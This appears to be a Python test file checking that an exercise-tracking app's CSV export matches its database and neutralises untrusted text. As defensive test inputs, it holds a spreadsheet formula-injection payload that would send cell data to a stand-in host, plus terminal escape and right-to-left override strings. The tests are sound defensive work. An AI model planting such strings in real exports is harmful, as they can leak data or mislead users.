"""The CSV export holds exactly what the database holds: one row per exercise saved, with its
session's id, times and status, and a row for a session with no exercise saved; and routine
text in it is inert: no formula a spreadsheet runs, no control character."""

from __future__ import annotations

import csv
import io

from backpain_gui.content.model import Variant
from backpain_gui.session.records import ExerciseRecord, Outcome
from backpain_gui.storage.export import COLUMNS, write_csv, write_list
from backpain_gui.storage.history import History
from backpain_gui.storage.saved import SessionStatus
from tests.storage.history_runs import RecordedRun, read_rows

DATABASE_VIEW = """
SELECT sessions.id, sessions.started_at, coalesce(sessions.ended_at, ''), sessions.status,
       sessions.routine, sessions.pain_before, sessions.pain_after, exercises.position + 1,
       exercises.exercise_id, exercises.name,
       exercises.outcome, exercises.variant, exercises.sides, exercises.reps_done,
       exercises.reps_target, iif(exercises.id, printf('%.3f', exercises.seconds), NULL),
       exercises.ended_at, iif(exercises.id, iif(exercises.redone, 'yes', 'no'), NULL)
FROM sessions LEFT JOIN exercises ON exercises.session_id = sessions.id
ORDER BY sessions.id, exercises.id
"""


def three_sessions(history: History) -> None:
    """One finished, one gone back in and ended early, one killed in its first get-ready."""
    finished = RecordedRun(history)
    finished.start()
    finished.until_records(3)
    ended = RecordedRun(history)
    ended.start()
    ended.until_records(2)
    ended.do(lambda session, now: session.back(now))
    ended.do(lambda session, now: session.end(now))
    RecordedRun(history).start()


def test_the_csv_export_equals_the_database(history: History) -> None:
    three_sessions(history)
    out = io.StringIO()
    assert write_csv(history.sessions(), out) == 3
    header, *rows = csv.reader(io.StringIO(out.getvalue()))
    assert tuple(header) == COLUMNS
    expected = [
        ["" if cell is None else str(cell) for cell in row]
        for row in read_rows(history.path, DATABASE_VIEW)
    ]
    assert rows == expected
    statuses = [row[3] for row in rows]
    assert statuses == ["finished"] * 3 + ["ended"] * 3 + ["interrupted"]
    # The rotation attempt gone back on is there, marked, beside the one that counts.
    assert [(row[8], row[10], row[17]) for row in rows[3:6]] == [
        ("tilt", "done", "no"),
        ("rotation", "done", "yes"),
        ("rotation", "skipped", "no"),
    ]
    assert rows[6][5:] == [""] * (len(COLUMNS) - 5)
    # No scores were given: the pain columns are empty, not 0.
    assert {(row[5], row[6]) for row in rows} == {("", "")}


def test_the_plain_list_has_a_line_per_session(history: History) -> None:
    three_sessions(history)
    out = io.StringIO()
    assert write_list(history.sessions(), out) == 3
    lines = out.getvalue().splitlines()
    assert [line.split()[2] for line in lines] == ["finished", "ended", "interrupted"]
    assert "3 of 3 exercises done" in lines[0]
    empty = io.StringIO()
    write_list([], empty)
    assert empty.getvalue() == "No sessions saved yet.\n"


def test_a_cell_a_spreadsheet_would_run_is_exported_as_text(history: History) -> None:
    # A routine file is someone else's text: its title and names are saved as they were.
    session = history.start_session('=HYPERLINK("http://example.com/?"&A1,"Open")', 2)
    assert session is not None
    for position, (exercise_id, name) in enumerate([("-2+3", "@SUM(A1:A9)"), ("+1", "\tTab")]):
        record = ExerciseRecord(
            position, exercise_id, Outcome.DONE, Variant.STANDARD, (None,), (10,), 10, 61.5
        )
        history.record_exercise(session, record, name)
    history.close_session(session, SessionStatus.FINISHED, 123.0)
    out = io.StringIO()
    write_csv(history.sessions(), out)
    _, *rows = csv.reader(io.StringIO(out.getvalue()))
    assert [row[4] for row in rows] == ['\'=HYPERLINK("http://example.com/?"&A1,"Open")'] * 2
    assert [(row[8], row[9]) for row in rows] == [("'-2+3", "'@SUM(A1:A9)"), ("'+1", "'\\x09Tab")]
    # The numbers stay numbers, for the spreadsheet to add up.
    assert [(row[0], row[7], row[14], row[15]) for row in rows] == [
        ("1", "1", "10", "61.500"),
        ("1", "2", "10", "61.500"),
    ]


def test_control_characters_in_names_reach_the_csv_as_visible_escapes(history: History) -> None:
    session = history.start_session("Title\x1b]0;owned\x07 \u202eevil", 1)
    assert session is not None
    record = ExerciseRecord(0, "tilt", Outcome.DONE, Variant.STANDARD, (None,), (10,), 10, 1.0)
    history.record_exercise(session, record, "Red\x1b[31m\r\nline\x00\x9b")
    out = io.StringIO()
    write_csv(history.sessions(), out)
    text = out.getvalue()
    controls = [char for char in text if ord(char) < 0x20 or 0x7F <= ord(char) <= 0x9F]
    assert set(controls) == {"\n"}
    assert "\u202e" not in text
    (row,) = list(csv.reader(io.StringIO(text)))[1:]
    assert row[4] == "Title\\x1b]0;owned\\x07 \\u202eevil"
    assert row[9] == "Red\\x1b[31m\\x0d\\x0aline\\x00\\x9b"
    # One line per row: an escaped line break cannot split a row in a tool that reads lines.
    assert len(text.splitlines()) == 2
